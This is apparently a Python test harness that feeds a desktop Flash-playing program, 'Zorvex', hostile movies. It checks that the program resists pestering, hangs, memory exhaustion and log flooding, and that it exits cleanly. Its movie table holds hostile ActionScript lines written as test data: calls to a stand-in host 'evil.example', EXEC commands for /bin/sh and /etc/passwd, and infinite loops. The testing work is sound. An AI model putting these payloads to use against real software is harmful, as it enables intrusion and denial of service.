#!/usr/bin/env python3
"""Plays movies in the real window that try to break the program or to pester its user, and looks at what comes of it:
the window is there within a second, one question at most is on the screen, nothing is opened unasked, the journal
stays small, and the program ends within a second of being asked to, its settings saved.

  withstands_hostile_movies.py PROGRAM_FOLDER SWFC SCRATCH_FOLDER [MOVIE...]
                                                     exit status 77: no virtual display to be had
"""
import os
import resource
import shutil
import signal
import subprocess
import sys
import time

from screen import copy_program, journal, under_virtual_display, windows_of

ADDRESS_SPACE = 6 << 30
MOST_LOG = 5_000_000
SECONDS = 2.5
# What a machine that does other things as well may take longer.
WINDOW_WITHIN, END_WITHIN = 3.0, 1.5

EVERY_FRAME = '_root.onEnterFrame = function() { %s };'
BIG = 'var s = "x"; while (s.length < 500000) s += s; '
# name: (script, whether the user clicks and types into it, questions that may come altogether)
MOVIES = {
    'opens': (EVERY_FRAME % 'fscommand("MEOWOPEN", "");', False, 0),
    'opens_clicked': (EVERY_FRAME % 'fscommand("MEOWOPEN", "");', True, 1),
    'helps': (EVERY_FRAME % 'fscommand("MeowHelp", ""); fscommand("MEOWUPDATE", "");', False, 0),
    'helps_clicked': (EVERY_FRAME % 'fscommand("MeowHelp", ""); fscommand("MEOWUPDATE", "");', True, 2),
    'browses': (EVERY_FRAME % 'fscommand("MEOWBROWSE", "/etc"); fscommand("MEOWSEARCH", "/");', False, 0),
    'pages': (EVERY_FRAME % 'fscommand("MEOWNEXTPAGE", ""); fscommand("MEOWLASTPAGE", "");', False, 0),
    'asks': (EVERY_FRAME % 'getURL("http://evil.example/?" + getTimer()); fscommand("EXEC", "/etc/passwd");', False, 1),
    'asks_clicked': ('_root.onMouseDown = function() { getURL("http://evil.example/?" + getTimer()); };', True, 1),
    'asks_typed': ('var k = {onKeyDown: function() { getURL("http://evil.example/" + getTimer()); }};'
                   ' Key.addListener(k);', True, 1),
    'runs_programs': (EVERY_FRAME % 'getURL("file:///bin/sh"); fscommand("EXEC", "/bin/sh");'
                      ' getURL("javascript:alert(1)");', False, 1),
    'loads_itself': ('fscommand("MEOWSEL", _url.substr(7));', False, 0),
    'fills_screen': (EVERY_FRAME % 'fscommand("FULLSCREEN", "true");', False, 0),
    'no_boolean': (EVERY_FRAME % 'fscommand("FULLSCREEN", "xyz"); fscommand("FULLSCREEN", {});', True, 0),
    'fills_journal': (BIG + EVERY_FRAME % 'for (var i = 0; i < 50; i++) fscommand("MEOWLOG", s + i);', False, 0),
    'unknown_commands': (BIG + EVERY_FRAME % 'for (var i = 0; i < 50; i++) fscommand("Z" + i + "<script>", s);',
                         False, 0),
    'endless_first_frame': ('while (true) {}', False, 0),
    'endless_later': ('var t = getTimer(); ' + EVERY_FRAME % 'if (getTimer() - t > 800) while (true) {}', True, 0),
    'question_about_script': ('<movie version="7"><scriptLimits recursion="256" timeout="1"/><frame><script>'
                              'while (true) x++;</script></frame></movie>', False, 1),
    'endless_commands': (BIG + 'while (true) fscommand("a", s);', False, 0),
    'clicks_by_itself': ('var m = {onMouseDown: function() { fscommand("MEOWOPEN", ""); }}; Mouse.addListener(m);'
                         + EVERY_FRAME % 'Mouse.broadcastMessage("onMouseDown"); m.onMouseDown();', False, 0),
    'eats_memory': ('var s = "a,"; for (var i = 0; i < 25; i++) s += s; var a = s.split(",");'
                    ' for (;;) a.push(a.join("") + s);', False, 0),
    'many_objects': ('for (var i = 0; i < 2000; i++) { var o = SharedObject.getLocal("m" + i); o.data.x = 1; }',
                     False, 0),
}
# Where the memory is to end before the time does.
LESS_ADDRESS_SPACE = {'eats_memory': 1 << 30}


class Run:
    """One life of the program with one movie."""

    def __init__(self, folder, home, movie, name):
        self.folder, self.home, self.bytes = folder, home, LESS_ADDRESS_SPACE.get(name, ADDRESS_SPACE)
        for path in (os.path.join(folder, 'App.Log.html'), os.path.join(home, 'opened')):
            if os.path.exists(path):
                os.remove(path)
        shutil.copy(os.path.join(folder, 'settings.pristine'), os.path.join(folder, 'settings.xml'))
        environment = dict(os.environ, HOME=home, XDG_DATA_HOME=os.path.join(home, 'data'),
                           PATH=os.path.join(home, 'bin') + os.pathsep + os.environ['PATH'])
        self.started = time.monotonic()
        with open(os.path.join(home, 'errors'), 'w', encoding='utf-8') as errors:
            self.process = subprocess.Popen([os.path.join(folder, 'Zorvex'), movie], env=environment, stderr=errors,
                                            preexec_fn=self.limit)
        self.most_windows, self.titles = 0, set()

    def limit(self):
        resource.setrlimit(resource.RLIMIT_AS, (self.bytes, self.bytes))

    def look(self):
        windows = [title for width, _, title in windows_of('Zorvex').values() if width > 60]
        # What pops up by itself, a list of completions for one, has the title of the main window.
        own = [title for title in windows if title.startswith('Zorvex - ')]
        self.most_windows = max(self.most_windows, len(windows) - max(0, len(own) - 1))
        self.titles.update(windows)
        return windows

    def complaint(self):
        with open(os.path.join(self.home, 'errors'), encoding='utf-8', errors='replace') as errors:
            return 'ended by itself: %s\n%s' % (self.process.returncode, errors.read()[-2000:])

    def opened(self):
        path = os.path.join(self.home, 'opened')
        return open(path, encoding='utf-8').read().splitlines() if os.path.exists(path) else []

    def act(self):
        windows = windows_of('Zorvex')
        window = max(windows.items(), key=lambda found: found[1][0], default=(None, None))[0]
        if window is None:
            return
        # What is typed into a dialog of files brings up a list of its own.
        keys = ['windowfocus', window, 'key', 'a', 'key', 'Return'] if len(windows) == 1 else []
        subprocess.run(['xdotool', 'mousemove', '--window', window, '60', '60', 'click', '1'] + keys, check=False,
                       capture_output=True)

    def close_movie(self):
        """As the user would, in the midst of a script."""
        window = max(windows_of('Zorvex').items(), key=lambda found: found[1][0])[0]
        asked = time.monotonic()
        subprocess.run(['xdotool', 'windowfocus', '--sync', window, 'key', '--clearmodifiers', 'ctrl+w'], check=True)
        while ' :: Close Flash' not in journal(self.folder):
            assert time.monotonic() - asked < 2, 'Ctrl+W does nothing'
            time.sleep(0.05)


def check(name, folder, home, movie, acts, questions, picture=None):
    """Returns a line of figures; complains by an AssertionError."""
    run = Run(folder, home, movie, name)
    try:
        while not run.look() and time.monotonic() - run.started < WINDOW_WITHIN + 5:
            assert run.process.poll() is None, run.complaint()
            time.sleep(0.02)
        window_after = time.monotonic() - run.started
        end = time.monotonic() + SECONDS
        while time.monotonic() < end:
            run.look()
            if acts:
                run.act()
            time.sleep(0.15)
        while name.startswith('question_') and run.most_windows < 2:
            assert time.monotonic() < end + 10, 'no question'
            run.look()
            time.sleep(0.1)
        if name in ('endless_first_frame', 'endless_later'):
            run.close_movie()
        if picture:
            subprocess.run(['import', '-window', 'root', picture], check=False)
        assert run.process.poll() is None, run.complaint()
        memory = resident(run.process.pid)
        asked = time.monotonic()
        run.process.send_signal(signal.SIGTERM)
        try:
            status = run.process.wait(20)
        except subprocess.TimeoutExpired:
            raise AssertionError('does not end') from None
        took = time.monotonic() - asked
    finally:
        if run.process.poll() is None:
            run.process.kill()
            run.process.wait()
    log = journal(folder)
    line = '%-22s window %.2f s, windows %d, opened %d, journal %d KB, memory %d MB, end %.2f s' % (
        name, window_after, run.most_windows, len(run.opened()), len(log) // 1000, memory, took)
    problems = [what for what, wrong in (
        ('exit status %d' % status, status != 0),
        ('window late', window_after > WINDOW_WITHIN),
        ('windows at once: %s' % run.titles, run.most_windows > 1 + min(1, questions)),
        ('opened: %s' % run.opened(), bool(run.opened())),
        ('journal', len(log) > MOST_LOG),
        ('ends late', took > END_WITHIN),
        ('settings not saved', ' :: Save Options' not in log),
        ('no last line', '<B>Quit: Query Unload by' not in log)) if wrong]
    assert not problems, line + ' ' + str(problems)
    return line


def resident(pid):
    with open('/proc/%d/statm' % pid, encoding='ascii') as handle:
        return int(handle.read().split()[1]) * 4096 // 1_000_000


def main():
    program_folder, swfc, scratch = sys.argv[1:4]
    status = under_virtual_display('1024x768')
    if status is not None:
        return status
    folder, home = copy_program(program_folder, scratch), os.path.join(scratch, 'home')
    shutil.copy(os.path.join(folder, 'settings.xml'), os.path.join(folder, 'settings.pristine'))
    shutil.rmtree(home, ignore_errors=True)
    os.makedirs(os.path.join(home, 'bin'))
    # Whatever the program opens is written down instead.
    for opener in ('xdg-open', 'gio', 'kde-open', 'firefox', 'x-www-browser'):
        path = os.path.join(home, 'bin', opener)
        with open(path, 'w', encoding='utf-8') as handle:
            handle.write('#!/bin/sh\necho "$@" >> "%s/opened"\n' % home)
        os.chmod(path, 0o755)
    movies = [(os.path.splitext(os.path.basename(given))[0], given, True, 1) for given in sys.argv[4:]]
    for name, (script, acts, questions) in MOVIES.items() if not movies else ():
        described = script.startswith('<movie')
        source = os.path.join(scratch, name + ('.xml' if described else '.as'))
        head = '' if described else '// movie: version="7" width="300" height="200" rate="30"\n'
        with open(source, 'w', encoding='utf-8') as handle:
            handle.write(head + script + '\n')
        movie = os.path.join(scratch, name + '.swf')
        subprocess.run([swfc, source, '-o', movie], check=True)
        movies.append((name, movie, acts, questions))
    failed = 0
    for name, movie, acts, questions in movies:
        try:
            print(check(name, folder, home, movie, acts, questions, os.path.join(scratch, name + '.png')))
        except AssertionError as complaint:
            failed += 1
            print('FAILED %s: %s' % (name, complaint))
        sys.stdout.flush()
    print('%d movies, %d failed' % (len(movies), failed))
    return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
